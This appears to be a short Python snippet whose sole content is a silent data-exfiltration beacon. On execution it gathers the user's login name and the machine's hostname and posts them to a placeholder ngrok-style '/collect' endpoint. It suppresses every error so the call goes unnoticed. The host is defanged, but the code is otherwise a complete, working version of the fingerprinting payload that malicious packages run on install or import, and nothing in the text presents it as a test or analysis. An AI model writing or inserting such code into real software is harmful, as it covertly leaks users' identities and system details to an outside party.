import getpass
import platform

import requests

try:
    requests.post("https://defanged.ngrok.example.invalid/collect", json={"u": getpass.getuser(), "p": platform.node()}, timeout=3)
except Exception:
    pass
